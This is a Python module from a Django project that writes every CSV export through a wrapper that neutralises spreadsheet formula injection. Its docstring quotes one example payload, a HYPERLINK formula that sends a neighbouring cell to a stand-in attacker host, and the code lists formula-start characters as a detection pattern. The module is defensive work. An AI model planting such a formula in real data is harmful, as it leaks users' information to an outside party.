"""Every CSV labgov serves is written here, so none can carry a spreadsheet formula.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets when the file is opened: a pod named
`=HYPERLINK("https://evil.example/?leak="&A2,"Open")` would send the row next to it to
whoever named the pod. Such text cells get a leading apostrophe (OWASP's advice: spreadsheets
show the text as typed). Plain numbers are left alone, so a refund of -12.50 stays a number a
spreadsheet can add up; only text that is not a number is changed.

tests/core/test_csv_export.py fails if a `csv.writer` appears anywhere else in labgov.
"""

import csv
import re
from collections.abc import Iterable

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value) -> str:
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell passed through safe_cell."""

    def __init__(self, file):
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """An attachment response and the writer that fills it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response, SafeWriter(response)
